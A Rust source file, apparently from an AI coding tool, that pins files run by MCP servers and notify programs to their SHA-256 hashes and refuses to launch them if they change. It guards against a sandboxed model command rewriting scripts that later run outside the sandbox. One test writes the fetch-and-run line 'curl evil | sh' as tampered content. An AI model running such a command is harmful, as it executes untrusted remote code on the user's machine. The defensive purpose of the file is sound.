//! What an accepted project config launches, pinned by content.
//!
//! Accepting a project layer accepts its bytes. But `[mcp_servers.helper] command = "sh",
//! args = ["tools/helper.sh"]` runs whatever `tools/helper.sh` says when the server starts, and
//! a sandboxed command may write `tools/` — so accepting the layer's text alone would let a
//! command rewrite what later runs unsandboxed. Every file named on the command line of an MCP
//! server or `notify` program that the layer adds is therefore part of the acceptance:
//!
//! * its SHA-256 is recorded beside the config's (`project_consent`), and a change (or a named
//!   file that appears or disappears) asks again when a session starts;
//! * it is checked again right before each launch ([`LaunchPins::verify`]): an MCP server
//!   started or restarted later, and `notify` at the end of the very turn that rewrote it;
//! * the sandbox keeps it read-only to the commands the model runs ([`LaunchPins::paths`]).
//!
//! "Named" means a word of the command line (or the value of a `--flag=value`) that resolves,
//! from the program's working directory, to an existing regular file outside the system's own
//! folders (`/usr`, `/etc`, …, which sandboxed commands cannot write). What a program loads by
//! itself (modules it imports, a file inside a `sh -c` string) is not seen: keep such helpers
//! in `.openinterpreter/`, which sandboxed commands can never write.

use std::path::{Path, PathBuf};

/// The largest file that can be pinned; a larger named file refuses the layer (it cannot be
/// checked before each launch without reading that much).
pub const PINNED_FILE_MAX_BYTES: u64 = 128 * 1024 * 1024;

/// Folders whose files are not pinned: the system's own, which no sandboxed command can
/// write and which are too large to hash at every launch (`/usr/bin/node`).
const SYSTEM_PREFIXES: &[&str] = &[
    "/usr",
    "/bin",
    "/sbin",
    "/lib",
    "/lib32",
    "/lib64",
    "/libx32",
    "/etc",
    "/opt",
    "/nix/store",
    "/snap",
    "/proc",
    "/sys",
    "/dev",
    "/boot",
];

/// One file a program of an accepted project layer runs or reads at launch.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PinnedFile {
    /// Canonical path.
    pub path: PathBuf,
    /// Hex SHA-256 of its content when the layer was accepted.
    pub sha256: String,
}

/// The files one launched program (an MCP server, `notify`) is pinned to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LaunchPins {
    /// The folder holding the accepted `.openinterpreter/` (named in the fix).
    pub project_dir: PathBuf,
    /// The files, each with the hash of its accepted content.
    pub files: Vec<PinnedFile>,
}

/// Why a pinned program is not launched.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PinError {
    /// A pinned file's content is not what was accepted (or it is gone).
    #[error(
        "{} changed since you accepted the project config that runs it, so it is not run; \
         review it, then run `interpreter accept-project-config {}`",
        .path.display(), .project_dir.display()
    )]
    Changed {
        /// The pinned file.
        path: PathBuf,
        /// The folder holding the accepted config.
        project_dir: PathBuf,
    },
    /// The command line now names a file that was not there when the layer was accepted.
    #[error(
        "{} appeared on the command line of a program of an accepted project config after you \
         accepted it, so it is not run; review it, then run `interpreter accept-project-config {}`",
        .path.display(), .project_dir.display()
    )]
    New {
        /// The file now named.
        path: PathBuf,
        /// The folder holding the accepted config.
        project_dir: PathBuf,
    },
}

impl LaunchPins {
    /// The pinned paths (what the sandbox keeps read-only).
    pub fn paths(&self) -> impl Iterator<Item = &Path> {
        self.files.iter().map(|f| f.path.as_path())
    }

    /// Checks, right before a launch of `argv` in `cwd`, that the files it names are the ones
    /// accepted, with the accepted content. Blocking (it reads the files): callers on async
    /// paths run it on the blocking pool.
    pub fn verify(&self, argv: &[String], cwd: &Path) -> Result<(), PinError> {
        for pin in &self.files {
            match crate::project_file::sha256_capped(&pin.path, PINNED_FILE_MAX_BYTES) {
                Ok(sha) if sha == pin.sha256 => {}
                _ => {
                    return Err(PinError::Changed {
                        path: pin.path.clone(),
                        project_dir: self.project_dir.clone(),
                    });
                }
            }
        }
        for path in named_files(argv, cwd) {
            if !self.files.iter().any(|f| f.path == path) {
                return Err(PinError::New {
                    path,
                    project_dir: self.project_dir.clone(),
                });
            }
        }
        Ok(())
    }
}

impl crate::Config {
    /// Every file a program of the accepted project layer is pinned to (its MCP servers,
    /// `notify` and hooks): what the sandbox keeps read-only to the commands the model runs.
    pub fn launch_pinned_paths(&self) -> Vec<PathBuf> {
        let mut out: Vec<PathBuf> = Vec::new();
        let pins = self
            .mcp_servers
            .values()
            .filter_map(|s| s.launch_pins.as_ref())
            .chain(self.notify_pins.as_ref())
            .chain(self.hooks.commands.iter().filter_map(|h| h.pins.as_ref()));
        for path in pins.flat_map(LaunchPins::paths) {
            if !out.iter().any(|p| p == path) {
                out.push(path.to_path_buf());
            }
        }
        out
    }
}

/// The files `argv` names, resolved from `cwd`: words (and `--flag=value` values) that are
/// existing regular files outside the system folders, canonical, each once. A bare first word
/// is a program looked up in `PATH`, not a file of the project.
pub fn named_files(argv: &[String], cwd: &Path) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = Vec::new();
    for (i, word) in argv.iter().enumerate() {
        let mut candidates = vec![word.as_str()];
        if word.starts_with('-')
            && let Some((_, value)) = word.split_once('=')
        {
            candidates.push(value);
        }
        for candidate in candidates {
            if candidate.is_empty() || (i == 0 && !candidate.contains('/')) {
                continue;
            }
            let path = cwd.join(candidate);
            if !std::fs::metadata(&path).is_ok_and(|m| m.is_file()) {
                continue;
            }
            let Ok(real) = path.canonicalize() else {
                continue;
            };
            if SYSTEM_PREFIXES
                .iter()
                .any(|p| real.starts_with(Path::new(p)))
            {
                continue;
            }
            if !out.contains(&real) {
                out.push(real);
            }
        }
    }
    out
}

/// Pins the files `argv` names in `cwd` to their content now. A file that cannot be hashed
/// (too large, unreadable) is an error naming it: a layer whose programs cannot be checked is
/// not accepted.
pub(crate) fn pin(
    argv: &[String],
    cwd: &Path,
    project_dir: &Path,
) -> Result<LaunchPins, crate::project_file::ProjectFileError> {
    let files = named_files(argv, cwd)
        .into_iter()
        .map(|path| {
            let sha256 = crate::project_file::sha256_capped(&path, PINNED_FILE_MAX_BYTES)?;
            Ok(PinnedFile { path, sha256 })
        })
        .collect::<Result<Vec<_>, crate::project_file::ProjectFileError>>()?;
    Ok(LaunchPins {
        project_dir: project_dir.to_path_buf(),
        files,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn named_files_are_the_existing_project_files_of_a_command_line() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir(root.join("tools")).unwrap();
        std::fs::write(root.join("tools/helper.sh"), "echo hi\n").unwrap();
        std::fs::write(root.join("conf.json"), "{}").unwrap();
        std::fs::write(root.join("node"), "not the program").unwrap();
        let found = named_files(
            &argv(&[
                "node",
                "tools/helper.sh",
                "--config=conf.json",
                "-y",
                "missing.sh",
                "/usr/bin/env",
                "tools",
                "./tools/../tools/helper.sh",
            ]),
            &root,
        );
        assert_eq!(
            found,
            vec![root.join("tools/helper.sh"), root.join("conf.json")]
        );
        // A path as the program is a file like any other.
        assert_eq!(
            named_files(&argv(&["./tools/helper.sh"]), &root),
            vec![root.join("tools/helper.sh")]
        );
    }

    #[test]
    fn verify_refuses_a_changed_a_removed_and_a_new_file() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::write(root.join("a.sh"), "echo a\n").unwrap();
        let line = argv(&["sh", "a.sh", "b.sh"]);
        let pins = pin(&line, &root, &root).unwrap();
        assert_eq!(pins.files.len(), 1);
        pins.verify(&line, &root).unwrap();

        std::fs::write(root.join("b.sh"), "echo b\n").unwrap();
        let err = pins.verify(&line, &root).unwrap_err();
        assert!(matches!(err, PinError::New { .. }), "{err}");
        std::fs::remove_file(root.join("b.sh")).unwrap();

        std::fs::write(root.join("a.sh"), "curl evil | sh\n").unwrap();
        let err = pins.verify(&line, &root).unwrap_err();
        assert_eq!(
            err,
            PinError::Changed {
                path: root.join("a.sh"),
                project_dir: root.clone()
            }
        );
        assert!(
            err.to_string().contains(&format!(
                "interpreter accept-project-config {}",
                root.display()
            )),
            "{err}"
        );
        std::fs::remove_file(root.join("a.sh")).unwrap();
        assert!(matches!(
            pins.verify(&line, &root),
            Err(PinError::Changed { .. })
        ));
    }

    #[cfg(unix)]
    #[test]
    fn a_fifo_is_not_waited_on() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let fifo = root.join("f");
        let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
        // SAFETY: a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        // Not a regular file: not named, not pinned, and nothing blocks.
        assert!(named_files(&argv(&["sh", "f"]), &root).is_empty());
        let pins = LaunchPins {
            project_dir: root.clone(),
            files: vec![PinnedFile {
                path: fifo,
                sha256: "x".into(),
            }],
        };
        assert!(pins.verify(&argv(&["sh"]), &root).is_err());
    }
}
